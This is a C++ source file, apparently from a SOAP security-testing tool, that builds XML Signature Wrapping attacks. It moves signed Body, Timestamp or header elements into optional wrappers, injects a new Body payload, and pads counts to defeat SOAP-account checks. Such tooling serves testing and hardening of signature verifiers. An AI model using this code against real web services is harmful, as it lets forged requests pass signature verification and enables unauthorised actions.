/*
  Copyright 2026 The soapguard Authors

  Licensed under the Apache License, Version 2.0 (the "License");
  you may not use this file except in compliance with the License.
  You may obtain a copy of the License at

  http://www.apache.org/licenses/LICENSE-2.0

  Unless required by applicable law or agreed to in writing, software
  distributed under the License is distributed on an "AS IS" BASIS,
  WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
  See the License for the specific language governing permissions and
  limitations under the License.
*/

#include "attacks.hpp"

#include "error.hpp"
#include "names.hpp"
#include "query.hpp"
#include "xmlsig.hpp"

#include <algorithm>
#include <set>

namespace soapguard::attacks {

using xml::Document;
using xml::Node;
using xml::NodeId;

namespace {

std::string str(std::string_view s) { return std::string(s); }

void mark_optional(Node& n, std::string_view role) {
  n.set_attribute("soap", xml::QName{str(ns::soap), "mustUnderstand"}, "0");
  n.set_attribute("soap", xml::QName{str(ns::soap), "role"}, str(role));
}

std::unique_ptr<Node> make_wrapper(Document& doc) {
  auto w = doc.create_element("", "", "Wrapper");
  mark_optional(*w, role::none);
  return w;
}

bool covered_by(const std::vector<const Node*>& signed_nodes, const Node& node) {
  for (const Node* n = &node; n; n = n->parent())
    if (std::find(signed_nodes.begin(), signed_nodes.end(), n) != signed_nodes.end())
      return true;
  return false;
}

// Moves `node` (in `doc`) to the end of `new_parent`.
void move_to(Document& doc, Node& node, Node& new_parent) { doc.append_child(new_parent, doc.detach(node)); }

Node& header_of(soap::Envelope& env) {
  if (Node* h = env.header())
    return *h;
  Document& doc = env.doc();
  return doc.insert_child(doc.root(), 0, doc.create_element("soap", str(ns::soap), "Header"));
}

// Body node of `env` that some signature covers.
const Node* signed_body(const soap::Envelope& env) {
  const Node* body = env.body();
  if (!body)
    return nullptr;
  auto nodes = sig::signed_nodes(env.doc());
  return covered_by(nodes, *body) ? body : nullptr;
}

bool qname_matches(const Node& n, std::string_view target) {
  auto colon = target.find(':');
  if (colon == std::string_view::npos)
    return n.name().local == target;
  return n.prefix() == target.substr(0, colon) && n.name().local == target.substr(colon + 1);
}

} // namespace

const char* attack_name(AttackKind a) noexcept {
  switch (a) {
  case AttackKind::simple_ancestry: return "SIMPLE_ANCESTRY";
  case AttackKind::optional_element: return "OPTIONAL_ELEMENT";
  case AttackKind::sibling_value: return "SIBLING_VALUE";
  case AttackKind::sibling_order: return "SIBLING_ORDER";
  case AttackKind::count_preserving_simple: return "COUNT_PRESERVING_SIMPLE";
  }
  return "?";
}

const char* attack_flag(AttackKind a) noexcept {
  switch (a) {
  case AttackKind::simple_ancestry: return "simple";
  case AttackKind::optional_element: return "optional";
  case AttackKind::sibling_value: return "sibling-value";
  case AttackKind::sibling_order: return "sibling-order";
  case AttackKind::count_preserving_simple: return "count-preserving";
  }
  return "?";
}

std::optional<AttackKind> parse_attack(std::string_view text) noexcept {
  for (AttackKind a : all_attacks)
    if (text == attack_flag(a) || text == attack_name(a))
      return a;
  return std::nullopt;
}

xml::Document default_payload() {
  Document d = Document::with_root("", "", "getQuote");
  d.root().set_attribute("", xml::QName{"", "Symbol"}, "MBI");
  return d;
}

AttackResult simple_ancestry(const soap::Envelope& env, const Node& payload, const std::string& new_id) {
  const Node* original = signed_body(env);
  if (!original)
    throw Error(ErrorCode::no_signed_body, "simple ancestry: no signature covers the soap:Body");
  AttackResult r{env, {}, {}, "application processes the injected Body instead of the signed one"};
  Document& doc = r.doc.doc();
  Node& body = *doc.find(original->id());
  std::size_t slot = body.index_in_parent();
  Node& header = header_of(r.doc);
  Node& wrapper = doc.append_child(header, make_wrapper(doc));
  r.injected.push_back(wrapper.id());
  move_to(doc, body, wrapper);
  r.moved.push_back(body.id());
  auto fresh = doc.create_element("soap", str(ns::soap), "Body");
  fresh->set_attribute("wsu", xml::QName{str(ns::wsu), "Id"}, new_id);
  Node& b = doc.insert_child(doc.root(), slot, std::move(fresh));
  r.injected.push_back(b.id());
  r.injected.push_back(doc.append_child(b, doc.import_subtree(payload)).id());
  return r;
}

AttackResult optional_element(const soap::Envelope& env, std::string_view target) {
  const Node* header = env.header();
  const Node* found = nullptr;
  if (header) {
    auto nodes = sig::signed_nodes(env.doc());
    xml::walk(*header, [&](const Node& n) {
      if (&n != header && n.is_element() && !n.is(ns::ds, "Signature") && qname_matches(n, target) &&
          covered_by(nodes, n)) {
        found = &n;
        return false;
      }
      return true;
    });
  }
  if (!found || !env.security())
    throw Error(ErrorCode::header_not_found,
                "optional element: no signed header element '" + std::string(target) + "'");
  AttackResult r{env, {}, {}, "application ignores the signed <" + found->qualified_name() + "> header"};
  Document& doc = r.doc.doc();
  Node& security = *r.doc.security();
  Node& wrapper = doc.append_child(security, make_wrapper(doc));
  r.injected.push_back(wrapper.id());
  move_to(doc, *doc.find(found->id()), wrapper);
  r.moved.push_back(found->id());
  return r;
}

AttackResult sibling_value(const soap::Envelope& env) {
  auto sigs = sig::find_signatures(env.doc());
  auto nodes = sig::signed_nodes(env.doc());
  const Node* ts = nullptr;
  for (const Node* s : sigs) {
    const Node* sec = s->parent();
    if (!sec || !sec->is(ns::wsse, "Security"))
      continue;
    const Node* t = sec->first_child_element(ns::wsu, "Timestamp");
    if (t && covered_by(nodes, *t)) {
      ts = t;
      break;
    }
  }
  if (!ts)
    throw Error(ErrorCode::no_timestamp, "sibling value: no signed wsu:Timestamp next to a signature");
  AttackResult r{env, {}, {}, "receiver skips the signed Timestamp, so its expiry is never enforced"};
  Document& doc = r.doc.doc();
  Node& original_sec = *doc.find(ts->parent()->id());
  Node& header = *original_sec.parent();
  Node& decoy = doc.insert_child(header, original_sec.index_in_parent() + 1,
                                 doc.create_element(original_sec.prefix(), str(ns::wsse), "Security"));
  mark_optional(decoy, role::none);
  r.injected.push_back(decoy.id());
  move_to(doc, *doc.find(ts->id()), decoy);
  r.moved.push_back(ts->id());
  return r;
}

const Node& signed_sibling_group(const soap::Envelope& env) {
  auto nodes = sig::signed_nodes(env.doc());
  const Node* group = nullptr;
  xml::walk(env.doc().root(), [&](const Node& n) {
    if (!n.is_element() || n.is(ns::ds, "Signature"))
      return true;
    std::size_t k = 0;
    for (const Node* c : n.element_children())
      if (xml::wsu_id(*c) && covered_by(nodes, *c))
        ++k;
    if (k >= 2) {
      group = &n;
      return false;
    }
    return true;
  });
  if (!group)
    throw Error(ErrorCode::not_enough_signed_siblings, "sibling order: no two signed siblings with wsu:Id");
  return *group;
}

AttackResult sibling_order(const soap::Envelope& env, std::span<const std::size_t> permutation) {
  const Node& group = signed_sibling_group(env);
  auto nodes = sig::signed_nodes(env.doc());
  std::vector<std::size_t> slots; // child indices of the signed siblings
  for (std::size_t i = 0; i < group.child_count(); ++i) {
    const Node& c = group.child(i);
    if (c.is_element() && xml::wsu_id(c) && covered_by(nodes, c))
      slots.push_back(i);
  }
  std::vector<std::size_t> sorted(permutation.begin(), permutation.end());
  std::sort(sorted.begin(), sorted.end());
  bool ok = sorted.size() == slots.size();
  for (std::size_t i = 0; ok && i < sorted.size(); ++i)
    ok = sorted[i] == i;
  if (!ok)
    throw Error(ErrorCode::bad_permutation, "sibling order: permutation must reorder exactly " +
                                                std::to_string(slots.size()) + " positions");

  AttackResult r{env, {}, {}, "application handles the signed siblings in an order the sender did not intend"};
  Document& doc = r.doc.doc();
  Node& g = *doc.find(group.id());
  std::vector<NodeId> ids;
  for (std::size_t s : slots)
    ids.push_back(g.child(s).id());
  std::vector<std::unique_ptr<Node>> taken(ids.size());
  // Detach from the back so earlier slot indices stay valid.
  for (std::size_t i = ids.size(); i-- > 0;)
    taken[i] = doc.detach(g.child(slots[i]));
  for (std::size_t i = 0; i < slots.size(); ++i) {
    if (permutation[i] != i)
      r.moved.push_back(ids[permutation[i]]);
    doc.insert_child(g, slots[i], std::move(taken[permutation[i]]));
  }
  return r;
}

AttackResult count_preserving_simple(const soap::Envelope& env, const Node& payload, const std::string& new_id) {
  const Node* account_node = sig::find_soap_account(env.doc());
  if (!account_node)
    throw Error(ErrorCode::no_soap_account, "count preserving: envelope carries no SOAP account");
  const Node* original = signed_body(env);
  if (!original)
    throw Error(ErrorCode::no_signed_body, "count preserving: no signature covers the soap:Body");
  const Node* header0 = env.header();
  if (!header0)
    throw Error(ErrorCode::cannot_preserve_counts, "count preserving: envelope has no header");

  AttackResult r{env, {}, {}, "application processes the injected Body while the SOAP account still matches"};
  Document& doc = r.doc.doc();
  Node& header = *r.doc.header();
  const std::size_t body_descendants = xml::count_descendants(*original);
  const std::size_t payload_size = 1 + xml::count_descendants(payload);
  if (payload_size > body_descendants)
    throw Error(ErrorCode::cannot_preserve_counts,
                "count preserving: payload has more elements than the signed Body content");

  // Elements the header will gain: the wrapper plus the original Body subtree.
  std::size_t need = 2 + body_descendants;

  // What must survive pruning: signatures, the account and every signed
  // item (with its ancestors).
  auto nodes = sig::signed_nodes(env.doc());
  std::set<NodeId> keep;
  for (const Node* n : nodes)
    for (const Node* a = n; a; a = a->parent())
      keep.insert(a->id());
  for (const Node* s : sig::find_signatures(env.doc()))
    for (const Node* a = s; a; a = a->parent())
      keep.insert(a->id());
  auto holds_kept = [&](const Node& n) {
    return !xml::walk(n, [&](const Node& d) { return keep.count(d.id()) == 0; });
  };

  std::vector<NodeId> prune;
  std::size_t removed = 0;
  // 1. unsigned header entries, including entries inside Security headers
  std::vector<const Node*> candidates;
  for (const Node* c : header0->element_children()) {
    if (c->is(ns::wsse, "Security"))
      for (const Node* s : c->element_children())
        candidates.push_back(s);
    else
      candidates.push_back(c);
  }
  for (const Node* c : candidates) {
    if (removed >= need)
      break;
    if (c->id() == account_node->id() || holds_kept(*c))
      continue;
    prune.push_back(c->id());
    removed += 1 + xml::count_descendants(*c);
  }
  // 2. KeyInfo of each signature (outside SignedInfo, so not signed)
  std::vector<NodeId> unwrap;
  for (const Node* s : sig::find_signatures(env.doc())) {
    if (removed >= need)
      break;
    if (const Node* ki = s->first_child_element(ns::ds, "KeyInfo")) {
      prune.push_back(ki->id());
      removed += 1 + xml::count_descendants(*ki);
    }
  }
  // 3. the Security wrappers themselves; their children move up a level
  for (const Node* c : header0->element_children()) {
    if (removed >= need)
      break;
    if (c->is(ns::wsse, "Security") && c->id() != account_node->id()) {
      unwrap.push_back(c->id());
      removed += 1;
    }
  }
  if (removed < need)
    throw Error(ErrorCode::cannot_preserve_counts, "count preserving: only " + std::to_string(removed) +
                                                       " unsigned header elements can go, " + std::to_string(need) +
                                                       " are needed");

  for (NodeId id : prune) {
    Node* n = doc.find(id);
    doc.detach(*n);
  }
  for (NodeId id : unwrap) {
    Node& sec = *doc.find(id);
    Node& parent = *sec.parent();
    std::size_t slot = sec.index_in_parent();
    auto owned = doc.detach(sec);
    while (owned->child_count() > 0) {
      Node& c = owned->child(owned->child_count() - 1);
      doc.insert_child(parent, slot, doc.detach(c));
    }
  }

  // Wrapper named like the Body's real parent keeps the lineage intact.
  Node& body = *doc.find(original->id());
  std::size_t slot = body.index_in_parent();
  const Node& real_parent = *body.parent();
  Node& wrapper = doc.append_child(header, doc.create_element(real_parent.prefix(), real_parent.name().ns,
                                                                real_parent.name().local));
  mark_optional(wrapper, role::none);
  r.injected.push_back(wrapper.id());
  move_to(doc, body, wrapper);
  r.moved.push_back(body.id());

  auto filler = [&]() {
    auto f = doc.create_element("sg", str(ns::sg), "Filler");
    mark_optional(*f, role::none);
    return f;
  };
  for (std::size_t i = need; i < removed; ++i)
    r.injected.push_back(doc.append_child(header, filler()).id());

  auto fresh = doc.create_element("soap", str(ns::soap), "Body");
  fresh->set_attribute("wsu", xml::QName{str(ns::wsu), "Id"}, new_id);
  Node& b = doc.insert_child(doc.root(), slot, std::move(fresh));
  r.injected.push_back(b.id());
  r.injected.push_back(doc.append_child(b, doc.import_subtree(payload)).id());
  for (std::size_t i = payload_size; i < body_descendants; ++i)
    r.injected.push_back(doc.append_child(b, filler()).id());
  if (removed > need || payload_size < body_descendants)
    soap::declare_on_root(doc, "sg", ns::sg);
  return r;
}

} // namespace soapguard::attacks
